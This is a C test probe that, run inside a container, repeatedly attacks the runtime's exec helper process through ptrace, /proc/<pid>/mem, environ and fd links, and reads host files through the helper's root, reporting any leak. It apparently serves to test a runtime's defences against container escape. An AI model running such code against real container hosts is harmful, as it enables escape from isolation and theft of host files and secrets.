/*
 * A container process attacking the runtime's helpers during `exec`: the process the
 * runtime clones into the container (running nsinit-init until it execs the command), and,
 * without a pid namespace of the container's own, the helper itself. Each target is
 * attacked over and over while it is still the helper: PTRACE_SEIZE, and opening or
 * reading /proc/<pid>/mem, exe, cwd, root, environ and every fd link.
 *
 *   helper_probe next DONE  the container has its own pid namespace: each new pid (they are
 *                           handed out in order) is attacked from the moment it exists
 *   helper_probe scan DONE RUNTIME
 *                           no pid namespace of its own: the children of the runtime (pid
 *                           RUNTIME) that run the helper are attacked (the helper and the
 *                           process it clones: CLONE_PARENT makes both the runtime's)
 *   helper_probe scan DONE 0
 *                           the same for every helper of the namespace whose /proc/<pid>
 *                           is this probe's euid's (a dumpable process of its uid: without
 *                           CAP_SYS_PTRACE it can reach no other), whoever's child it is,
 *                           each for at most 2 s (another process may look like one)
 *
 * With PROBE_HOST_FILE=PATH in its environment, the probe also reads PATH through each
 * target's /proc/<pid>/root (a helper's root is the host's until the child pivots).
 *
 * Both run until the file DONE exists, then print:
 *   helper PID COMM owner=UID levels=N
 *                      a helper attacked (the owner of its /proc/<pid>, and in how many pid
 *                      namespaces it has a pid, from this probe's down), once
 *   helpers N          distinct helper pids attacked while they were the helper
 *   attempts N         rounds of every attack that ran while the target was the helper
 *   leak WHAT PID X    an attack that succeeded on the helper (X: what it got)
 * A success is the helper's when /proc/<pid>/exe, read right after, is the helper's memfd:
 * after execve(2) the process is the container's own command, which it may trace.
 */
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static long helpers, attempts, leaks;
static int bounded; /* scan DONE 0: at most 2 s on one pid */
static int seen[65536];

static int read_small(const char *path, char *buf, size_t size)
{
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	ssize_t n;

	if (fd < 0)
		return -1;
	n = read(fd, buf, size - 1);
	close(fd);
	if (n < 0)
		return -1;
	buf[n] = 0;
	if (n > 0 && buf[n - 1] == '\n')
		buf[n - 1] = 0;
	return (int)n;
}

static int ppid_of(int pid)
{
	char path[64], buf[512], *p;

	snprintf(path, sizeof(path), "/proc/%d/stat", pid);
	if (read_small(path, buf, sizeof(buf)) < 0 || !(p = strrchr(buf, ')')))
		return -1;
	return atoi(p + 4); /* ") S PPID" */
}

static int comm_of(int pid, char *buf, size_t size)
{
	char path[64];

	snprintf(path, sizeof(path), "/proc/%d/comm", pid);
	return read_small(path, buf, size);
}

/* The helper's comm: nsinit-init exec'd from a memfd shows its name or its fd number. */
static int helper_comm(const char *c)
{
	if (strncmp(c, "nsinit", 6) == 0 || strncmp(c, "memfd:", 6) == 0)
		return 1;
	for (const char *p = c; *p; p++)
		if (!isdigit((unsigned char)*p))
			return 0;
	return *c != 0;
}

static int link_of(int pid, const char *what, char *buf, size_t size)
{
	char path[96];
	ssize_t n;

	snprintf(path, sizeof(path), "/proc/%d/%s", pid, what);
	n = readlink(path, buf, size - 1);
	if (n < 0)
		return -1;
	buf[n] = 0;
	return 0;
}

/* An attack got something: the helper's only if its exe is still the helper's memfd. */
static void got(int pid, const char *what, const char *detail)
{
	char exe[256];

	if (link_of(pid, "exe", exe, sizeof(exe)) < 0)
		snprintf(exe, sizeof(exe), "?");
	if (strstr(exe, "memfd:") || strstr(exe, "nsinit")) {
		leaks++;
		printf("leak %s %d %s exe=%s\n", what, pid, detail, exe);
		fflush(stdout);
	}
}

static void attack(int pid)
{
	char path[96], buf[512];
	DIR *d;
	int fd;

	if (syscall(SYS_ptrace, PTRACE_SEIZE, pid, 0, 0) == 0) {
		int st;
		syscall(SYS_ptrace, PTRACE_INTERRUPT, pid, 0, 0);
		waitpid(pid, &st, __WALL);
		got(pid, "ptrace", "attached");
		syscall(SYS_ptrace, PTRACE_DETACH, pid, 0, 0);
	}
	snprintf(path, sizeof(path), "/proc/%d/mem", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd >= 0) {
		close(fd);
		got(pid, "mem", "opened");
	}
	snprintf(path, sizeof(path), "/proc/%d/environ", pid);
	if (read_small(path, buf, sizeof(buf)) > 0)
		got(pid, "environ", "read");
	for (const char *l = "exe\0cwd\0root\0"; *l; l += strlen(l) + 1)
		if (link_of(pid, l, buf, sizeof(buf)) == 0)
			got(pid, l, buf);
	if (getenv("PROBE_HOST_FILE")) {
		char host[512];
		snprintf(host, sizeof(host), "/proc/%d/root%s", pid, getenv("PROBE_HOST_FILE"));
		if (read_small(host, buf, sizeof(buf)) > 0)
			got(pid, "hostfile", buf);
	}
	snprintf(path, sizeof(path), "/proc/%d/fd", pid);
	d = opendir(path);
	if (d) {
		struct dirent *e;
		while ((e = readdir(d))) {
			char what[300];
			if (e->d_name[0] == '.')
				continue;
			snprintf(what, sizeof(what), "fd/%s", e->d_name);
			if (link_of(pid, what, buf, sizeof(buf)) == 0)
				got(pid, what, buf);
			snprintf(path, sizeof(path), "/proc/%d/fd/%s", pid, e->d_name);
			fd = open(path, O_RDONLY | O_CLOEXEC);
			if (fd >= 0) {
				close(fd);
				got(pid, what, "opened");
			}
		}
		closedir(d);
	}
}

/* The owner of /proc/<pid> as this probe sees it: a dumpable process's is its euid, a
 * non-dumpable one's is root of the user namespace its memory belongs to. */
static int owner_of(int pid)
{
	char path[64];
	struct stat st;

	snprintf(path, sizeof(path), "/proc/%d", pid);
	return stat(path, &st) < 0 ? -1 : (int)st.st_uid;
}

/* How many pid namespaces from this probe's down the target has a pid in (NSpid). */
static int levels_of(int pid)
{
	char path[64], buf[2048], *p;
	int n = 0;

	snprintf(path, sizeof(path), "/proc/%d/status", pid);
	if (read_small(path, buf, sizeof(buf)) < 0 || !(p = strstr(buf, "\nNSpid:")))
		return -1;
	for (p += 7; *p && *p != '\n'; p++)
		if (isdigit((unsigned char)*p) && !isdigit((unsigned char)p[1]))
			n++;
	return n;
}

/* Attacks pid for as long as it is the helper. */
static void siege(int pid)
{
	char before[64], after[64];
	struct timespec t0, t;

	clock_gettime(CLOCK_MONOTONIC, &t0);
	for (;;) {
		clock_gettime(CLOCK_MONOTONIC, &t);
		if (bounded && t.tv_sec - t0.tv_sec >= 2)
			return;
		if (comm_of(pid, before, sizeof(before)) < 0 || !helper_comm(before))
			return;
		attack(pid);
		if (comm_of(pid, after, sizeof(after)) < 0 || strcmp(before, after) != 0)
			return;
		if (pid < 65536 && !seen[pid]) {
			seen[pid] = 1;
			helpers++;
			printf("helper %d %s owner=%d levels=%d\n", pid, before, owner_of(pid),
			       levels_of(pid));
			fflush(stdout);
		}
		attempts++;
	}
}

/*
 * Attacks every helper among this namespace's processes (with parent > 0: only the children
 * of that pid; with 0: any not attacked before but pid 1) and returns the highest pid attacked.
 */
static int scan(int parent)
{
	DIR *d = opendir("/proc");
	struct dirent *e;
	char comm[64];
	int top = 0;

	while (d && (e = readdir(d))) {
		int pid = atoi(e->d_name);
		if (pid <= 1 || (parent > 0 && ppid_of(pid) != parent) ||
		    (parent == 0 && pid < 65536 && seen[pid]) ||
		    comm_of(pid, comm, sizeof(comm)) < 0 || !helper_comm(comm) ||
		    (bounded && owner_of(pid) != (int)geteuid()))
			continue;
		siege(pid);
		if (pid > top)
			top = pid;
	}
	if (d)
		closedir(d);
	return top;
}

int main(int argc, char **argv)
{
	int next = getpid() + 1;

	if (argc != 3 && argc != 4)
		return 2;
	setvbuf(stdout, NULL, _IOLBF, 0);
	while (access(argv[2], F_OK) < 0) {
		if (strcmp(argv[1], "next") == 0) {
			/* The next pid of this namespace: attack it from its first instant. One
			 * that came and went while this probe was not running is skipped, and so
			 * is one that is not there yet while a later one is: then the namespace's
			 * processes are scanned for a helper, so that a pid this probe never saw
			 * being made cannot stall it. */
			char last[32];
			if (kill(next, 0) < 0 && errno == ESRCH) {
				int last_pid = read_small("/proc/sys/kernel/ns_last_pid", last,
							  sizeof(last)) > 0 ? atoi(last) : -1;
				if (last_pid >= next) {
					next++;
				} else {
					int top = scan(0);
					if (top >= next)
						next = top + 1;
				}
				continue;
			}
			siege(next++);
		} else if (argc == 4) {
			bounded = atoi(argv[3]) == 0;
			scan(atoi(argv[3]));
		}
	}
	printf("helpers %ld\nattempts %ld\nleaks %ld\n", helpers, attempts, leaks);
	return 0;
}
